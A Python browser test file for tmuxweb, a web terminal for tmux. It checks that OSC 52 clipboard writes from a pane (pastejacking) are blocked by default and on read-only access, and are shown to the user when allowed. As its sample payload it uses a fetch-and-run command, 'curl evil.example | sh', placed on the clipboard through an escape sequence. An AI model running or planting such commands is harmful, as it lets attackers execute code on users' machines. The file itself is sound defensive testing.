"""OSC 52 in headless Chromium against a real tmuxweb and a real tmux: a
program's clipboard write (pastejacking) reaches the browser's clipboard
only when the user has turned that on, never on a read-only connection, and
is then shown to the user."""

from __future__ import annotations

import base64
from typing import Any

import pytest

from helpers import RunningServer, TmuxServer
from tmuxweb.auth import new_secret
from tmuxweb.tokens import TokenStore

pytestmark = pytest.mark.browser

BEFORE = "what the user copied"
HOSTILE = "curl evil.example | sh\n"
# The pane prints an OSC 52 write, then a marker computed by the shell (so
# the typed command line itself never shows it). xterm.js parses in order:
# once the marker is on screen, the OSC 52 handler has run.
PROGRAM = "printf '\\033]52;c;%s\\a' {payload}; echo osc52-done-$((40+2))"
MARKER = "osc52-done-42"
READ_CLIPBOARD = "() => navigator.clipboard.readText()"


def open_page(new_page: Any, server: RunningServer, token: str, *, writes_on: bool = False) -> Any:
    page = new_page(permissions=["clipboard-read", "clipboard-write"])
    if writes_on:
        # As if the user had turned writes on in an earlier visit.
        page.context.add_init_script("localStorage.setItem('tmuxweb.osc52Writes', 'on')")
    page.goto(f"{server.base_url}/#token={token}")
    page.wait_for_function("() => window.__tmuxweb && window.__tmuxweb.connected() && window.__tmuxweb.activePane() !== null")
    page.evaluate("(text) => navigator.clipboard.writeText(text)", BEFORE)
    assert page.evaluate(READ_CLIPBOARD) == BEFORE
    return page


def program_copies(page: Any, tmux: TmuxServer, text: str) -> None:
    """A program in the pane asks the terminal to put `text` on the clipboard."""
    payload = base64.b64encode(text.encode()).decode()
    tmux.wait_for_prompt()
    tmux.run("send-keys", "-t", "%0", "-l", PROGRAM.format(payload=payload))
    tmux.run("send-keys", "-t", "%0", "Enter")
    page.wait_for_function("(m) => (window.__tmuxweb.paneText('%0') || '').includes(m)", arg=MARKER)


def read_token(server: RunningServer) -> str:
    secret = new_secret()
    assert server.config.tokens_file is not None
    TokenStore(server.config.tokens_file).create("viewer", "read", None, secret)
    return secret


def test_osc52_write_is_ignored_by_default(new_page: Any, tmuxweb_server: RunningServer, tmux_server: TmuxServer) -> None:
    page = open_page(new_page, tmuxweb_server, tmuxweb_server.token)
    program_copies(page, tmux_server, HOSTILE)
    assert page.evaluate(READ_CLIPBOARD) == BEFORE
    assert page.get_attribute("#osc52-toggle", "aria-pressed") == "false"
    # The user learns that a program tried, and where to allow it.
    page.wait_for_selector(".toast:has-text('tried to copy to your clipboard')")


def test_osc52_write_is_ignored_on_a_read_token_even_when_turned_on(
    new_page: Any, tmuxweb_server: RunningServer, tmux_server: TmuxServer
) -> None:
    page = open_page(new_page, tmuxweb_server, read_token(tmuxweb_server), writes_on=True)
    program_copies(page, tmux_server, HOSTILE)
    assert page.evaluate(READ_CLIPBOARD) == BEFORE
    assert page.is_disabled("#osc52-toggle")
    assert page.get_attribute("#osc52-toggle", "aria-pressed") == "false"


def test_osc52_write_is_ignored_for_the_owner_on_a_readonly_server(
    new_page: Any, make_server: Any, tmux_server: TmuxServer
) -> None:
    server = make_server(readonly=True)
    page = open_page(new_page, server, server.token, writes_on=True)
    program_copies(page, tmux_server, HOSTILE)
    assert page.evaluate(READ_CLIPBOARD) == BEFORE
    assert page.is_disabled("#osc52-toggle")


def test_osc52_write_turned_on_copies_and_shows_what_was_copied(
    new_page: Any, tmuxweb_server: RunningServer, tmux_server: TmuxServer, screenshot: Any
) -> None:
    secret = new_secret()
    assert tmuxweb_server.config.tokens_file is not None
    TokenStore(tmuxweb_server.config.tokens_file).create("typist", "write", None, secret)
    page = open_page(new_page, tmuxweb_server, secret)
    page.click("#osc52-toggle")
    assert page.get_attribute("#osc52-toggle", "aria-pressed") == "true"
    assert page.evaluate("() => localStorage.getItem('tmuxweb.osc52Writes')") == "on"
    copied = "héllo from the pane " + "x" * 300
    program_copies(page, tmux_server, copied)
    page.wait_for_function("(want) => navigator.clipboard.readText().then((t) => t === want)", arg=copied)
    notice = page.locator(".toast", has_text="copied to your clipboard")
    notice.wait_for()
    text = notice.inner_text()
    assert "héllo from the pane xxx" in text and "(320 characters)" in text and "x" * 200 not in text
    screenshot(page, "osc52-copied")
    # The notice turns it off again.
    notice.get_by_role("button", name="Stop allowing this").click()
    assert page.get_attribute("#osc52-toggle", "aria-pressed") == "false"
    assert page.evaluate("() => localStorage.getItem('tmuxweb.osc52Writes')") is None
